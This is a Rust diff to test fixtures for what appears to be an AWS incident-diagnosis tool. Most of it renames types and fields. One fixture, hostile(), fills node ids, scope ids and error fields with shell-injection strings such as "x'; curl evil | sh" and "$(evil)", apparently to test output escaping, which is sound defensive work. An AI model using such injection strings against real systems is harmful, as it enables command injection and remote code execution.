@@ -5,11 +5,11 @@ use std::collections::BTreeMap;
 use jiff::Timestamp;
 
 use crate::cause::{Cause, Confidence, Scope, ScopeKind};
-use crate::diagnose::facts::{ImdsFacts, InstanceFacts, ProfileRef, Read, RoleFacts};
-use crate::diagnose::verdict::Standing;
-use crate::finding::{Clues, Evidence, SignatureCount};
-use crate::incident::group::{Hit, Incident};
-use crate::node::{AccountId, InstanceId, NamedBy, Node, NodeId, Region};
+use crate::diagnose::facts::{Fetched, ImdsFacts, InstanceFacts, ProfileRef, RoleFacts};
+use crate::diagnose::verdict::FaultState;
+use crate::finding::{ErrorDetails, Evidence, SignatureCount};
+use crate::incident::group::{AffectedNode, Incident};
+use crate::node::{AccountId, IdSource, InstanceId, Node, NodeId, Region};
 use crate::repair::outcome::{Outcome, OutcomeStatus};
 
 pub(crate) const INSTANCE: &str = "i-0123456789abcdef0";
@@ -21,7 +21,7 @@ pub(crate) fn at(text: &str) -> Timestamp {
 pub(crate) fn node(id: &str, region: &str) -> Node {
     Node {
         id: NodeId::parse(id).unwrap_or(NodeId::Unknown(id.into())),
-        named_by: NamedBy::Stream,
+        id_source: IdSource::Stream,
         account: AccountId::parse("123456789012"),
         region: Region::parse(region),
     }
@@ -66,10 +66,10 @@ pub(crate) fn in_region(cause: Cause, region: &str) -> Incident {
         scope,
         severity: cause.severity(),
         confidence: Confidence::Likely,
-        standing: Standing::Standing,
+        fault_state: FaultState::Active,
         title: format!("{cause} on instance {INSTANCE}"),
         detail: None,
-        hits: vec![hit(INSTANCE, region, cause)],
+        affected: vec![hit(INSTANCE, region, cause)],
         signatures: vec![SignatureCount {
             id: "a-signature".to_owned(),
             count: 3,
@@ -83,10 +83,10 @@ pub(crate) fn in_region(cause: Cause, region: &str) -> Incident {
             text: "Failed to get instance info from IMDS.".to_owned(),
             place: None,
         }],
-        clues: Clues {
+        error_details: ErrorDetails {
             service: Some("ssm".to_owned()),
             action: Some("ssm:UpdateInstanceInformation".to_owned()),
-            ..Clues::default()
+            ..ErrorDetails::default()
         },
         checks: Vec::new(),
         first: last,
@@ -119,14 +119,14 @@ pub(crate) fn in_region(cause: Cause, region: &str) -> Incident {
             arn: "arn:aws:iam::123456789012:role/MySSMRole".to_owned(),
             path: "/".to_owned(),
             trust_policy: "{}".to_owned(),
-            tags: Read::Found(BTreeMap::new()),
+            tags: Fetched::Found(BTreeMap::new()),
             boundary: None,
         }),
     }
 }
 
-pub(crate) fn hit(id: &str, region: &str, cause: Cause) -> Hit {
-    Hit {
+pub(crate) fn hit(id: &str, region: &str, cause: Cause) -> AffectedNode {
+    AffectedNode {
         node: node(id, region),
         last: at("2026-11-23T04:19:04Z"),
         confirmed: false,
@@ -136,7 +136,7 @@ pub(crate) fn hit(id: &str, region: &str, cause: Cause) -> Hit {
 
 pub(crate) fn on_hybrid_node(cause: Cause) -> Incident {
     let mut incident = incident(cause);
-    incident.hits = vec![hit("mi-0123456789abcdef0", "eu-central-1", cause)];
+    incident.affected = vec![hit("mi-0123456789abcdef0", "eu-central-1", cause)];
     incident.scope = Scope {
         kind: ScopeKind::Node,
         id: "mi-0123456789abcdef0".to_owned(),
@@ -149,8 +149,8 @@ pub(crate) fn on_hybrid_node(cause: Cause) -> Incident {
 
 pub(crate) fn on_unknown_node(cause: Cause) -> Incident {
     let mut incident = on_hybrid_node(cause);
-    incident.hits = vec![hit("app/web-7.log", "", cause)];
-    incident.hits[0].node.account = None;
+    incident.affected = vec![hit("app/web-7.log", "", cause)];
+    incident.affected[0].node.account = None;
     incident
 }
 
@@ -165,12 +165,12 @@ pub(crate) fn undetermined(candidates: &[Cause]) -> Incident {
 pub(crate) fn hostile(cause: Cause) -> Incident {
     let evil = || Some("x'; curl evil | sh #\n$(evil)".to_owned());
     let mut incident = on_unknown_node(cause);
-    incident.hits[0].node.id = NodeId::Unknown("i-0'; evil".into());
+    incident.affected[0].node.id = NodeId::Unknown("i-0'; evil".into());
     incident.scope = Scope {
         kind: cause.scope_kind(),
         id: "x'; evil".to_owned(),
     };
-    incident.clues = Clues {
+    incident.error_details = ErrorDetails {
         service: evil(),
         host: evil(),
         action: evil(),
@@ -179,7 +179,7 @@ pub(crate) fn hostile(cause: Cause) -> Incident {
         code: evil(),
         agent_version: evil(),
         template: evil(),
-        ..Clues::default()
+        ..ErrorDetails::default()
     };
     incident
 }
